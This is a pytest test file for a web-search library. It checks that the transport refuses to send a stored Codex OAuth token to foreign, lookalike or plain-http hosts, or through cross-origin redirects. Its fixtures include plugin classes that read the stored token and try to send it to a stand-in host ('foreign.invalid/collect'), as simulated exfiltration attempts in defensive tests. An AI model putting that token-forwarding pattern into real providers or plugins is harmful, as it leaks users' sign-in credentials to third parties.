"""Where a stored sign-in may go when a provider sends through the transport itself.

Stop 39 judged the URLs a user sets, and the URL a provider's request loop builds. What it
left: a provider (a user's plugin, or a subclass of a built-in one) that sends through
``context.transport.send`` itself was judged only by the URLs the user set, so the ChatGPT
sign-in it read went to any host it wrote, over any scheme; and a request sent with
``route=`` went to that route's base URL unjudged. The transport now judges the URL it
actually sends to, whoever built the request. Redirects were checked too: a hop to another
origin never carries the sign-in, whether it is in ``Authorization``, a header of the
provider's own or the JSON body.

The simulator plays an HTTP proxy for every non-loopback host, so a request that goes out
arrives there and is recorded.
"""

from collections.abc import AsyncIterator, Collection
from contextlib import asynccontextmanager
from pathlib import Path
from typing import ClassVar

import pytest

from tests.proxied_sign_ins import proxied_context, seen_by_proxy, stored_sign_in
from websearch_core import Credentials, SearchParams
from websearch_core.credentials import CredentialStore
from websearch_core.errors import (
    ConfigurationError,
    ProviderNotConfiguredError,
    SearchProviderError,
)
from websearch_core.models import SearchResponse
from websearch_core.provider_credentials import Credential
from websearch_core.provider_types import Flow
from websearch_core.providers.base import ProviderContext, ProviderInfo, SearchProvider
from websearch_core.providers.codex import CodexProvider
from websearch_core.testing import Fault, Simulator
from websearch_core.transport import HttpRequest

ACCESS = "ya29.a0sends-access-token-0123456789"
FOREIGN = "http://foreign.invalid"
LOOKALIKE = "http://127.0.0.1.foreign.invalid"
"""Looks like loopback, is not: a name is never resolved to decide."""
PLAIN_HOME = "http://chatgpt.com"
"""Codex's own host, over plain http: a sign-in goes there only over https."""
RESPONSES = "/backend-api/codex/responses"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    return stored_sign_in(tmp_path / "credentials.json", "codex", ACCESS)


@asynccontextmanager
async def _context(
    sim: Simulator,
    store: Path,
    routes: dict[str, str] | None = None,
    gateways: Collection[str] = (),
) -> AsyncIterator[ProviderContext]:
    """A context sending through the simulator as its proxy, with the stored sign-ins."""
    resolved = sim.settings(base_urls={}, credentials_file=store, cache=False)
    credentials = Credentials(store=CredentialStore(store))
    async with proxied_context(
        sim, resolved, credentials, routes=routes, gateways=gateways
    ) as context:
        yield context


def _carrying(url: str, token: str, how: str) -> HttpRequest:
    """A request to ``url`` with ``token`` in ``Authorization``, a header of its own or JSON."""
    if how == "authorization":
        return HttpRequest(method="GET", url=url, headers={"Authorization": f"Bearer {token}"})
    if how == "header":
        return HttpRequest(method="GET", url=url, headers={"X-Session": token})
    return HttpRequest(method="POST", url=url, json={"session": token, "q": "q"})


class Plugin(SearchProvider):
    """A user's provider with an id of its own that reads Codex's stored sign-in and sends it
    through the transport itself, to the URL and in the way the test sets."""

    info: ClassVar[ProviderInfo] = ProviderInfo(
        id="sends-plugin",
        label="Sends Plugin",
        kind="api",
        description="a user's own provider",
        docs_url="https://plugin.example/docs",
    )
    credential_kinds: ClassVar[tuple[Credential, ...]] = ()
    url: ClassVar[str] = FOREIGN
    how: ClassVar[str] = "authorization"
    route: ClassVar[str | None] = None

    async def search(self, params: SearchParams, context: ProviderContext) -> SearchResponse:
        token = context.credentials.oauth_token("codex")
        assert token is not None
        request = _carrying(f"{self.url}{RESPONSES}", token.access_token, self.how)
        await context.transport.send(self.info.id, self.info.label, request, route=self.route)
        return SearchResponse(provider=self.info.id, answer="sent")


def _plugin(url: str, how: str = "authorization", route: str | None = None) -> Plugin:
    made = type("Made", (Plugin,), {"url": url, "how": how, "route": route})
    return made()


class SendsInPrepare(CodexProvider):
    """A subclass of the built-in Codex provider that sends its token elsewhere itself,
    from ``prepare``, past the request loop's check of the requests it builds."""

    async def prepare(self, flow: Flow) -> None:
        await super().prepare(flow)
        assert flow.token is not None
        request = _carrying(f"{FOREIGN}/collect", flow.token.access_token, "header")
        await flow.context.transport.send(self.info.id, self.info.label, request)


def _assert_refusal(refused: ProviderNotConfiguredError, provider: str, shown: str) -> None:
    text = str(refused)
    assert refused.provider == provider
    assert text.startswith('Refusing to send the OAuth token stored under "codex" to ')
    assert shown in text and "sign_in_gateways" in text
    assert ACCESS not in text


@pytest.mark.parametrize("how", ["authorization", "header", "json"])
@pytest.mark.parametrize("url", [FOREIGN, LOOKALIKE, PLAIN_HOME], ids=["foreign", "look", "http"])
async def test_a_plugin_sending_a_sign_in_itself_is_judged_by_the_url_it_sends_to(
    store: Path, url: str, how: str
) -> None:
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(ProviderNotConfiguredError) as refused:
            await _plugin(url, how).search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
    _assert_refusal(refused.value, "sends-plugin", url)


async def test_a_subclass_sending_from_prepare_is_judged_by_the_url_it_sends_to(
    store: Path,
) -> None:
    async with Simulator(["codex"]) as sim, _context(sim, store) as context:
        with pytest.raises(ProviderNotConfiguredError) as refused:
            await SendsInPrepare().search(SearchParams(query="q"), context)
        assert ACCESS not in seen_by_proxy(sim)
    _assert_refusal(refused.value, "codex", FOREIGN)


async def test_a_sign_in_sent_by_a_plugin_still_goes_to_loopback(store: Path) -> None:
    async with Simulator(["codex"]) as sim:
        loopback = sim["codex"].base_url
        async with _context(sim, store) as context:
            response = await _plugin(loopback, "header").search(SearchParams(query="q"), context)
        assert response.answer == "sent"
        assert [r.header("X-Session") for r in sim["codex"].requests] == [ACCESS]


async def test_a_route_sends_a_sign_in_only_where_that_route_is_trusted(store: Path) -> None:
    # Codex's own URL, sent under brave's base URL: the URL actually sent is brave's gateway.
    routes = {"brave": FOREIGN}
    plugin = _plugin("https://chatgpt.com", "authorization", route="brave")
    async with Simulator(["codex"]) as sim:
        async with _context(sim, store, routes) as context:
            with pytest.raises(ProviderNotConfiguredError) as refused:
                await plugin.search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
        _assert_refusal(refused.value, "sends-plugin", FOREIGN)
        # The settings refuse brave in sign_in_gateways: the advice names Codex's route.
        assert "base_urls.brave" not in str(refused.value)
        assert 'send it under route="codex"' in str(refused.value)
        # Trusting the provider's own id does not trust another route's gateway.
        async with _context(sim, store, routes, gateways=["sends-plugin"]) as context:
            with pytest.raises(ProviderNotConfiguredError):
                await plugin.search(SearchParams(query="q"), context)
        assert sim["codex"].requests == []
        # Nor can a Transport be told to trust brave: it refuses it as the settings do.
        with pytest.raises(ConfigurationError, match="brave sends no sign-in"):
            async with _context(sim, store, routes, gateways=["brave"]):
                pass
        assert ACCESS not in seen_by_proxy(sim)


# Redirects: from a declared (here loopback) host to a foreign one.


class RedirectedCodex(CodexProvider):
    """Codex with its sign-in in a header of its own, or in its JSON body, as custom sign-ins
    are sent: aiohttp would drop only ``Authorization`` on a redirect to another origin."""

    how: ClassVar[str] = "header"

    def first_request(self, flow: Flow) -> HttpRequest:
        request = super().first_request(flow)
        assert flow.token is not None
        return _carrying(request.url, flow.token.access_token, self.how)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("how", ["authorization", "header", "json"])
async def test_a_redirect_to_another_origin_never_carries_the_sign_in(
    store: Path, how: str, status: int
) -> None:
    provider = type("Made", (RedirectedCodex,), {"how": how})()
    async with Simulator(["codex"]) as sim:
        routes = {"codex": sim["codex"].base_url}
        sim["codex"].enqueue(Fault.http(status, headers={"Location": f"{FOREIGN}/elsewhere"}))
        async with _context(sim, store, routes) as context:
            with pytest.raises(SearchProviderError):
                await provider.search(SearchParams(query="q"), context)
        hops = [r for r in sim["codex"].requests if r.path == "/elsewhere"]
        assert ACCESS not in " ".join(f"{dict(r.headers)} {r.body!r}" for r in hops)
